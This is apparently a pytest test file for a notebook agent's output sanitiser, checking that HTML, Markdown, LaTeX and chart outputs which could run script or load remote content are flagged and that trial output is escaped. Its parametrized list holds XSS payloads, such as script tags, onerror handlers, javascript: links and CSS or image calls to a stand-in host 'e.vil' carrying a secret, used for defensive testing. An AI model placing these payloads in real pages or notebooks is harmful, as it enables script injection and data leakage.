"""Output of a trial that could act in a front-end is shown as text; what people look at is shown."""

from __future__ import annotations

import pytest

from nbagent.hosts.kernel.account import Account, Change, Refused, markup, text
from nbagent.hosts.passive import inert, shown


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<SCRIPT src=//e.vil></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src='https://e.vil/?secret'>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='java\nscript:alert(1)'>x</a>",
        "<iframe srcdoc='x'></iframe>",
        "<svg onload=alert(1)>",
        "<svg><use href='https://e.vil/#x'/></svg>",
        "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
        "<style>@import 'https://e.vil'</style>",
        "<style>b{background:url(https://e.vil)}</style>",
        "<b style='background:url(//e.vil)'>x</b>",
        "<b style='position:fixed;top:0'>x</b>",
        "<button data-commandlinker-command='x'>run</button>",
        "<b data-commandlinker-command='notebook:run-all-cells'>x</b>",
        "<form action='https://e.vil'><input></form>",
        "<meta http-equiv=refresh content='0;url=https://e.vil'>",
        "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<style/><img src=x onerror=alert(1)>",
        "<link rel=stylesheet href=https://e.vil>",
        "<object data=https://e.vil>",
        "<base href=https://e.vil>",
    ],
)
def test_what_could_act_or_load_is_not_inert(html: str) -> None:
    assert not inert(html)


def test_tables_styles_and_pictures_are_inert() -> None:
    pandas = pytest.importorskip("pandas", reason="needs the examples extra")
    frame = pandas.DataFrame({"a": ["<script>alert(1)</script>", "b & c"], "n": [1, 2]})
    assert inert(frame.to_html(notebook=True))  # it escapes
    assert not inert(frame.style.to_html())  # it does not
    assert inert(frame[["n"]].style.set_properties(color="red").to_html())
    assert inert('<img src="data:image/png;base64,iVBORw0KGgo="> 1 < 2 <a href="https://docs.example">docs</a>')


def test_a_picture_drawn_as_svg_is_inert() -> None:
    if not _has_matplotlib():
        pytest.skip("needs the examples extra")
    import io

    from matplotlib.figure import Figure

    figure, file = Figure(), io.StringIO()
    figure.subplots().plot([1, 2], label="x")
    figure.savefig(file, format="svg")
    assert inert(file.getvalue())


def test_a_format_that_could_act_is_left_out_and_the_text_stays() -> None:
    data = {"text/plain": "Chart", "text/html": "<script>1</script>", "application/javascript": "1"}
    assert shown(data) == ({"text/plain": "Chart"}, True)
    assert shown({"text/markdown": "![x](https://e.vil/?a)"})[1]
    assert shown({"text/markdown": "[x](JavaScript:alert(1))"})[1]
    assert shown({"text/markdown": "**bold** [docs](https://docs.example)", "text/latex": "$x^2$"})[1] is False
    assert shown({"text/latex": "\\href{javascript:alert(1)}{x}"})[1]
    widget = {"text/plain": "w", "application/vnd.jupyter.widget-view+json": {"model_id": "1"}}
    assert shown(widget) == ({"text/plain": "w"}, True)


def test_charts_are_shown_when_they_load_nothing() -> None:
    plotly = {"data": [{"y": [1]}], "config": {"plotlyServerURL": "https://plot.ly"}}
    assert shown({"application/vnd.plotly.v1+json": plotly})[1] is False
    loads = {"layout": {"images": [{"source": "https://e.vil/?a"}]}}
    assert shown({"application/vnd.plotly.v1+json": loads})[1]
    assert shown({"application/vnd.vegalite.v5+json": {"$schema": "https://vega.github.io", "data": {}}})[1] is False
    assert shown({"application/vnd.vegalite.v5+json": {"data": {"url": "//e.vil"}}})[1]


def test_the_account_escapes_what_comes_from_the_trial() -> None:
    account = Account(
        sentence="The trial ran to its end; your kernel is as before.",
        worked=True,
        seconds=0.5,
        memory=1000,
        changes=(Change("<b>n</b>", "new", None, "<script>1</script>\x1b[2J"),),
        files=(("<i>.csv\n", 3), ("old.csv", None)),
        refused=(Refused("network", "<e.vil>", 3, None), Refused("read", "/a/<b>", 1, "--readable /a")),
    )
    html = markup(account)
    assert "<b>" not in html
    assert "<script>" not in html
    assert "&lt;script&gt;" in html
    assert inert(html)
    assert text(account).splitlines() == [
        "The trial ran to its end; your kernel is as before. (0.50 s, 1.0 kB)",
        "  new      <b>n</b>  <script>1</script>\\x1b[2J",
        "  writes   <i>.csv\\n  3 B",
        "  removes  old.csv",
        "  refused  network <e.vil>  3 times",
        "  refused  read /a/<b>  %%trial --readable /a would allow it",
    ]


def test_a_long_account_is_cut_and_says_so() -> None:
    many = tuple(Change(f"n{i}", "new", None, "1") for i in range(100))
    told = text(Account("Done.", True, 0.0, 0, changes=many)).splitlines()
    assert len(told) == 42
    assert told[-1].strip() == "and 60 variables more"


def _has_matplotlib() -> bool:
    import importlib.util

    return importlib.util.find_spec("matplotlib") is not None
